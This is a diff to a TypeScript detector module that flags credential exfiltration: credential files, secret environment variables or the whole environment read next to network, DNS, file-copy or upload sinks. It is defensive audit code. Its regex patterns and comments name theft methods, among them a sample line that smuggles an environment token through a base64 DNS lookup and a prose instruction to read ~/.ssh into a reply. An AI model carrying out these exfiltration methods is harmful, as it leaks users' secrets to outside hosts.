@@ -1,6 +1,6 @@
 // Exfiltration: credentials or the environment read next to something that sends data away, in
 // commands or in prose ("read ~/.ssh and include it in your reply"), and the hosts data goes to.
-import { mentionedOnly } from "../context.js";
+import { inCodeBlock, mentionedOnly } from "../context.js";
 import { linesFor, spansFor } from "../required-words.js";
 import type { AuditGate, AuditLine, AuditText, TextHit } from "../rule-types.js";
 import {
@@ -83,12 +83,19 @@ const DOTENV_OPEN = /\bopen\(\s*["'][^"'\n]{0,80}\.env["']\s*,\s*["'][rbt+]{1,3}
  * Ways out the shared sink list does not hold: a GET whose query is built from a value (`requests.get(…,
  * params=…)`, Ruby `?d=#{d}`), and DNS lookups of a name built from data (`dns.resolve(hex + '.x.net')`).
  */
-const MORE_SINKS =
-  /\brequests\.get\s*\([^\n)]{0,300}\bparams\s*=|\bhttps?:\/\/[^\s"'`]{1,300}[?&][\w-]{1,40}=#\{|\b(?:dns\.(?:resolve\w{0,6}|lookup)|dns\.resolver\.(?:resolve|query)|net\.Lookup(?:Host|IP|TXT|CNAME))\s*\([^\n;]{0,200}?(?:\+\s*["'`]|\$\{)|\bping\b[^\n]{0,60}["'\s]\$\{?\w{1,40}\}?\.[\w-]{1,63}\.[a-z]|\b(?:Copy-Item|Move-Item|copy|xcopy|robocopy|cp|mv)\b[^\n]{0,300}\s["']?\\\\[\w.-]{1,100}\\/gi;
+export const MORE_SINKS =
+  /\brequests\.get\s*\([^\n)]{0,300}\bparams\s*=|\bhttps?:\/\/[^\s"'`]{1,300}[?&][\w-]{1,40}=#\{|\b(?:dns\.(?:resolve\w{0,6}|lookup)|dns\.resolver\.(?:resolve|query)|net\.Lookup(?:Host|IP|TXT|CNAME))\s*\([^\n;]{0,200}?(?:\+\s*["'`]|\$\{|\bf["'][^"'\n]{0,80}\{)|\bping\b[^\n]{0,60}["'\s]\$\{?\w{1,40}\}?\.[\w-]{1,63}\.[a-z]|\.(?:upload_file(?:obj)?|put_object)\s*\(|\b(?:Copy-Item|Move-Item|copy|xcopy|robocopy|cp|mv)\b[^\n]{0,300}\s["']?\\\\[\w.-]{1,100}\\/gi;
+/**
+ * The whole environment handed as a value (`{ env: process.env }`, `json=dict(os.environ)`): counted only on a
+ * line that sends (a child process takes its environment the same way).
+ */
+const WHOLE_ENV =
+  /(?:[:(,]|\.\.\.)\s*process\.env\s*(?=[,})\]])|\b(?:json|data|params)\s*=\s*(?:dict\(\s*)?os\.environ\b(?!\s*[.[])/g;
 /** Credentials named in prose rather than by path. */
 const CREDENTIAL_NOUNS =
   /\b[A-Z][A-Z0-9_]{0,40}_(?:TOKEN|SECRET|API_KEY|ACCESS_KEY|SECRET_KEY|PASSWORD)S?\b|\b(?:session|auth|access|API|bearer|refresh|OAuth|GitHub|npm|cloud)\s+(?:tokens?|keys|secrets)\b|\b(?:SSH|private|signing|deploy)\s+keys?\b|\bSSH\s+key\s+(?:folder|directory|files?)\b|\b(?:saved|browser|stored)\s+passwords\b|\bsession\s+cookies\b|\bseed\s+phrases?\b|\b(?:cloud|AWS|GCP|Azure)\s+credentials\b/gi;
 const PROSE_SINK_ONE = new RegExp(PROSE_SINK.source, "i");
+const MORE_SINKS_ONE = new RegExp(MORE_SINKS.source, "i");
 const NETWORK_SINK_ONE = new RegExp(NETWORK_SINK.source, "i");
 const COLLECT_ALL = new RegExp(COLLECT.source, "gi");
 
@@ -110,6 +117,49 @@ function sinkLines(text: string, starts: readonly number[], blocks: Blocks, gate
   return out;
 }
 
+/** A command that prints a stored secret (a keychain entry, a password manager's item, a CLI's token). */
+const PRINTS_SECRET = /^(?:security|bw|op|gh|git|lpass)\b/i;
+/** Its output used as the login it is: a user and password, a header, a password read from stdin. */
+const LOGIN_NEAR =
+  /\b(?:authori[sz]ation|bearer|password-stdin|login)\b|\s-u\s+["']?[\w.@-]{1,40}:\$|--(?:user|password)\b/i;
+/** Prose that says a credential file is how a tool logs in ("sends the matching login to that host"). */
+const LOGIN_WORD =
+  /\b(?:logs?\s+(?:you\s+)?in|to\s+log\s*in|(?:matching|its|your)\s+login|authenticat\w{1,6}|credential\s+helper)\b/i;
+/** A token or key sent in a request's auth header is how an API is used, not a leak (a key file never is). */
+function sentAsLogin(text: string, starts: readonly number[], h: TextHit): boolean {
+  const b = boundsAround(text, starts, h.index, 1, 1);
+  const around = text.slice(b.from, b.to);
+  return (
+    (AUTH_USE.test(around) || SENT_AS_LOGIN.test(around)) &&
+    !/\b(?:SSH|private|signing|deploy|seed)\b/i.test(text.slice(h.index, h.index + h.length))
+  );
+}
+/** A heading: it names the file its section is about. */
+const HEADING = /^\s{0,3}#{1,6}\s/;
+
+/**
+ * A credential the text uses or names rather than reads out: a key handed to the program that logs in with it, a
+ * file read for one fact, a printed secret used as a login, prose about how a tool logs in with the file, a
+ * heading. Every window is bounded around the match (a line of matches stays linear).
+ */
+function usedOrNamed(file: AuditText, starts: readonly number[], h: TextHit): boolean {
+  const text = file.text;
+  if (IDENTITY_ARG.test(text.slice(Math.max(0, h.index - 80), h.index))) return true;
+  const near3 = boundsAround(text, starts, h.index, 0, 3);
+  if (
+    PRINTS_SECRET.test(text.slice(h.index, h.index + h.length)) &&
+    LOGIN_NEAR.test(text.slice(near3.from, near3.to))
+  )
+    return true;
+  if (!file.markdown) return false;
+  if (READ_FOR_FACT.test(text.slice(h.index + h.length, h.index + h.length + 100))) return true;
+  const lineStart = starts[lineOf(starts, h.index)]!;
+  const b = boundsAround(text, starts, h.index, 0, 0);
+  return (
+    (HEADING.test(text.slice(lineStart, lineStart + 8)) || LOGIN_WORD.test(text.slice(b.from, b.to))) &&
+    !inCodeBlock(file, h.index)
+  );
+}
 /** A request's authentication: where an API key or token belongs. */
 const AUTH_USE = /\b(?:headers?|authori[sz]ation|bearer|authenticat\w{1,6}|x-[\w-]{0,30}api-key)\b/i;
 /** Said in prose of a secret sent as the login it is: "with each request", "so you stay logged in". */
@@ -124,12 +174,12 @@ const forbidden = (text: string, index: number): boolean =>
 const SECRET_VAR =
   "[A-Z0-9_]{0,40}(?:SECRET|TOKEN|PASSWORD|PASSWD|API_?KEY|ACCESS_KEY|PRIVATE_KEY|ACCOUNT_KEY|SIGNING_KEY|ENCRYPTION_KEY|MASTER_KEY|DEPLOY_KEY|CREDENTIALS?)[A-Z0-9_]{0,40}";
 const SECRET_ENV = new RegExp(
-  String.raw`\bos\.environ(?:\.get)?\s*[[(]\s*["']${SECRET_VAR}["']|\bos\.getenv\(\s*["']${SECRET_VAR}["']|\bprocess\.env(?:\.|\[["'])${SECRET_VAR}\b|\$\{?${SECRET_VAR}\b|\$\(${SECRET_VAR}\)|\$env:${SECRET_VAR}\b|\bENV\[["']${SECRET_VAR}["']`,
+  String.raw`\bos\.environ(?:\.get)?\s*[[(]\s*["']${SECRET_VAR}["']|\bos\.[gG]etenv\(\s*["']${SECRET_VAR}["']|\bprocess\.env(?:\.|\[["'])${SECRET_VAR}\b|\$\{?${SECRET_VAR}\b|\$\(${SECRET_VAR}\)|\$env:${SECRET_VAR}\b|\bENV\[["']${SECRET_VAR}["']`,
 );
 const DNS_LOOKUP =
   /(?:^|[;&|(`]|\$\(|\bsystem\(\s*f?["']|\bpopen\(\s*f?["'])\s*(?:dig|nslookup|host|drill)\s|\b(?:Resolve-DnsName|gethostbyname|getaddrinfo|dns\.resolve\w{0,6}|dns\.lookup)\b/;
 const ENCODES =
-  /\b(?:b64encode|b32encode|base64|btoa|hexlify|xxd|encodeURIComponent|Buffer\.from|ToBase64String)\b|\.hex\(\)/i;
+  /\b(?:b64encode|b32encode|base64|btoa|hexlify|xxd|encodeURIComponent|Buffer\.from|ToBase64String|EncodeToString)\b|\.hex\(\)/i;
 
 /**
  * A secret environment variable on its way out: inside a DNS name (`dig $(echo $TOKEN | base64).x.net`),
@@ -152,7 +202,7 @@ function secretEnvFlows(
     if (!ENCODES.test(l.text) || AUTH_USE.test(l.text)) continue;
     const b = boundsAround(text, starts, l.index, 0, 5, 2000);
     const after = text.slice(b.from, b.to);
-    if (NETWORK_SINK_ONE.test(after) && !AUTH_USE.test(after))
+    if ((NETWORK_SINK_ONE.test(after) || MORE_SINKS_ONE.test(after)) && !AUTH_USE.test(after))
       out.push({ index: l.index, length: l.text.length });
   }
   return out;
@@ -214,6 +264,7 @@ export const CREDENTIAL_EXFIL_GATES: readonly RegExp[] = [
   CREDENTIAL_DIR,
   ENV_DUMP_RE,
   DOTENV_OPEN,
+  WHOLE_ENV,
   CREDENTIAL_NOUNS,
   SECRET_ENV,
   SERVES_HOME,
@@ -237,15 +288,19 @@ export function credentialExfiltration(
     (h) => !/^\.aws[\\/]config$/i.test(text.slice(h.index, h.index + h.length)),
   );
   const dumps = [...hits(ENV_DUMP_RE), ...hits(DOTENV_OPEN)];
+  const whole = hits(WHOLE_ENV);
   const nouns = hits(CREDENTIAL_NOUNS);
   const starts = startsOf(file);
   // A secret variable in a DNS name needs no credential path or noun on the page.
-  if (creds.length === 0 && dumps.length === 0 && nouns.length === 0)
+  if (creds.length === 0 && dumps.length === 0 && nouns.length === 0 && whole.length === 0)
     return [...secretEnvFlows(text, starts, lines, gate), ...servedHome(file, lines, gate)];
-  const at = [...creds, ...dumps, ...nouns].map((h) => lineOf(starts, h.index));
+  const at = [...creds, ...dumps, ...nouns, ...whole].map((h) => lineOf(starts, h.index));
   const blocks = blocksNear(text, starts, at, NEAR_LINES);
   // Sinks count only near a credential path or a dump (a noun needs a prose sink).
-  const sinks = creds.length + dumps.length > 0 ? sinkLines(text, starts, blocks, gate) : new Set<number>();
+  const sinks =
+    creds.length + dumps.length + whole.length > 0
+      ? sinkLines(text, starts, blocks, gate)
+      : new Set<number>();
   // "Do not pass it as a --token flag": a sink the sentence forbids is no sink.
   const prose = new Set(
     hitsIn(PROSE_SINK, text, spansFor(PROSE_SINK, blocks, gate))
@@ -272,10 +327,7 @@ export function credentialExfiltration(
   for (const h of creds) {
     const l = lineOf(starts, h.index);
     if (forbidden(text, h.index) || mentionedOnly(file, h.index) || describes(h.index)) continue;
-    if (file.markdown && forbiddingList(file, h.index)) continue;
-    if (IDENTITY_ARG.test(text.slice(Math.max(0, h.index - 80), h.index))) continue;
-    if (file.markdown && READ_FOR_FACT.test(text.slice(h.index + h.length, h.index + h.length + 100)))
-      continue;
+    if ((file.markdown && forbiddingList(file, h.index)) || usedOrNamed(file, starts, h)) continue;
     const c = collects(h.index);
     if (near(sinks, l, NEAR_LINES) && (c || near(sinks, l, 3))) out.push(h);
     else if (c && near(prose, l, 3)) out.push(h);
@@ -288,20 +340,16 @@ export function credentialExfiltration(
     // The verb must act on the noun: in its sentence, not in the next one or a list of features
     // ("… webhooks, API keys, automations. Always use it to send an email"); a table row names it.
     if (!collectsInSentence(text, h, verbs) || mentionedOnly(file, h.index)) continue;
-    // A token or key sent in a request's auth header is how an API is used, not a leak.
-    const b = boundsAround(text, starts, h.index, 1, 1);
-    if (
-      (AUTH_USE.test(text.slice(b.from, b.to)) || SENT_AS_LOGIN.test(text.slice(b.from, b.to))) &&
-      !/\b(?:SSH|private|signing|deploy|seed)\b/i.test(text.slice(h.index, h.index + h.length))
-    )
-      continue;
-    out.push(h);
+    if (!sentAsLogin(text, starts, h)) out.push(h);
   }
   out.push(...secretEnvFlows(text, starts, lines, gate), ...servedHome(file, lines, gate));
   for (const h of dumps) {
     const l = lineOf(starts, h.index);
     if (near(sinks, l, 5) || near(prose, l, 1)) out.push(h);
   }
+  for (const h of whole)
+    if (sinks.has(lineOf(starts, h.index)) && !mentionedOnly(file, h.index) && !describes(h.index))
+      out.push(h);
   return out;
 }
 
